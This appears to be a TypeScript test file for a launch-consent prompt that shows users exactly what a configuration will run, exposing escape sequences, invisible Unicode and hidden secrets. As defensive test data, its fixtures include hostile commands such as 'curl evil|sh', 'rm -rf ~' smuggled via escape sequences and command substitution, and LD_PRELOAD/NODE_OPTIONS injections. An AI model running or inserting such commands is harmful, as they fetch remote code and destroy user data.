import assert from 'node:assert/strict';
import { consentQuestion, consentUnit } from '../../src/core/launch/consent';
import { Raw } from '../../src/core/text';
import { plan } from './planned';
import type { FoundProgram } from '../../src/core/launch/consent';
import type { PlanningWorld } from '../../src/core/launch/plan-launch';

describe('consent', () => {
  const unit = (entry: { env?: Record<string, string> }, more?: Partial<PlanningWorld>) =>
    consentUnit(plan({ command: 'node', args: ['a.js'], ...entry }, more), (text) => `#${text}`);
  it('is another for another value, folder or program, and the same for the same', () => {
    const units = [unit({}), unit({ env: { A: '1' } }), unit({ env: { A: '2' } }), unit({}, { workspaceFolder: '/v' })];
    assert.equal(new Set(units).size, units.length);
    assert.equal(unit({ env: { A: '1' } }), unit({ env: { A: '1' } }));
  });
});

describe('what consent is given to', () => {
  it('is the values as they would be, whatever stands in their names', () => {
    const unit = (value: string) =>
      consentUnit(plan({ command: 'x', env: { ['LD_PRELOAD${env:NOPE}']: value } }), (text) => text);
    assert.notEqual(unit('/ok.so'), unit('/evil.so'));
    assert.match(unit('/ok.so'), /"LD_PRELOAD","\/ok.so"/);
  });
});

describe('the question that consent answers', () => {
  const ask = (entry: object, more: Partial<PlanningWorld> = {}, program: FoundProgram | null = null) =>
    consentQuestion(plan(entry, more), program);
  const runs = (entry: object) => String(ask(entry).short[0]).replace(/^Runs: /, '');

  const hiding: readonly [name: string, entry: object, shown: string][] = [
    [
      'an env value that equals an argument',
      { command: 'bash', args: ['-c', 'curl evil|sh'], env: { GITHUB_TOKEN: 'curl evil|sh' } },
      'bash -c "curl evil|sh"',
    ],
    [
      'an escape sequence, and what it wraps',
      { command: 'node', args: ['a\u001B]0;; rm -rf ~\u0007b'] },
      String.raw`node "a\u001b]0;; rm -rf ~\u0007b"`,
    ],
    [
      'code in the query of an address',
      { command: 'bash', args: ['-c', 'curl "https://h/?key=$(rm -rf ~)"'] },
      String.raw`bash -c "curl \"https://h/?key=$(rm -rf ~)\""`,
    ],
    [
      'the header of a private key in front of code',
      { command: 'sh', args: ['-c', ': -----BEGIN PRIVATE KEY-----; payload'] },
      'sh -c ": -----BEGIN PRIVATE KEY-----; payload"',
    ],
    [
      'the shape of a token',
      { command: 'sh', args: ['-c', 'ghp_0123456789abcdefghij0123;x'] },
      'sh -c "ghp_0123456789abcdefghij0123;x"',
    ],
    ['a character without width', { command: '/bin/no\u200Bde' }, String.raw`"/bin/no\u200bde"`],
    ['a turn of direction', { command: 'x', args: ['a\u202Etxt.exe'] }, String.raw`x "a\u202etxt.exe"`],
    ['a tag of the supplementary planes', { command: 'x', args: ['a\u{E0041}'] }, String.raw`x "a\udb40\udc41"`],
    ['a blank that is none', { command: 'x', args: ['a\u00A0b\u2800c'] }, String.raw`x "a\u00a0b\u2800c"`],
    ['blanks that push the rest away', { command: 'x', args: ['a   b'] }, String.raw`x "a \u0020\u0020b"`],
    [
      'a line that begins anew',
      { command: 'node', args: ['a.js\r\n  npx good'] },
      String.raw`node "a.js\r\n \u0020npx good"`,
    ],
    ['a word that poses as hidden', { command: 'sh', args: ['-c', '‹env X›'] }, String.raw`sh -c "\u2039env X\u203a"`],
    ['a quote that ends a word', { command: 'x', args: ['a" "b'] }, String.raw`x "a\" \"b"`],
    ['an empty word', { command: 'x', args: [''] }, 'x ""'],
    ['code behind the flag of a secret', { command: 'x', args: ['--api-key', '$(id)'] }, 'x --api-key "$(id)"'],
    ['a script behind the flag of a secret', { command: 'x', args: ['--token', './evil.sh'] }, 'x --token ./evil.sh'],
  ];
  for (const [name, entry, shown] of hiding) it(`tells ${name}`, () => assert.equal(runs(entry), shown));

  it('shows a plain secret behind its flag by its length and beginning, and in full where everything is', () => {
    const entry = { command: 'x', args: ['--api-key', 'sk0123456789abcdef', '--token=abcd1234efgh'] };
    assert.equal(runs(entry), 'x --api-key ‹18 characters, sk01…› --token=‹12 characters, abc…›');
    assert.equal(
      ask(entry).everything[0],
      'Runs: x\n      --api-key\n      sk0123456789abcdef\n      --token=abcd1234efgh',
    );
  });

  it('shows what was answered, where it stands for an argument', () =>
    assert.equal(runs({ command: 'sh', args: ['-c', '${input:key}'] }), 'sh -c answered'));

  it('names the program that was found, and what it is a link to', () => {
    const which = (program: FoundProgram | null) => ask({ command: 'npx' }, {}, program).short[1];
    const path = '/usr/bin/npx';
    assert.equal(which({ path, realPath: path }), 'Which is: /usr/bin/npx');
    assert.equal(which({ path, realPath: '/w/x.js' }), 'Which is: /usr/bin/npx, a link to /w/x.js');
    assert.equal(which(null), 'Which is: nothing that is there now');
  });

  it('shows the values that decide which code runs, of the entry and of its envFile, and names the others', () => {
    const env = {
      NODE_OPTIONS: '--require ./evil.js',
      PATH: '/w/bin',
      LD_PRELOAD: '/w/x.so',
      COLOUR: 'red',
      'A› B': 'c',
    };
    const file = { kind: 'read' as const, text: new Raw('BASH_ENV=/w/x.sh\nOTHER=1') };
    const { short, everything } = ask({ command: 'x', env, envFile: '/w/.env' }, { envFile: () => file });
    const text = short.join('\n');
    for (const line of ['Sets: NODE_OPTIONS="--require ./evil.js"', 'Sets: PATH=/w/bin', 'Sets: LD_PRELOAD=/w/x.so'])
      assert.ok(short.map(String).includes(line), `${line} in\n${text}`);
    assert.match(text, /The file sets: BASH_ENV=\/w\/x\.sh/);
    assert.match(text, /, and NODE_OPTIONS, PATH, LD_PRELOAD, COLOUR, "A\\u203a B", and 2 values from \/w\/\.env/);
    assert.doesNotMatch(text, /red|OTHER=1/);
    assert.match(everything.join('\n'), /Sets: COLOUR=red\n.*Sets: "A\\u203a B"=c\n.*The file sets: OTHER=1/s);
  });
});
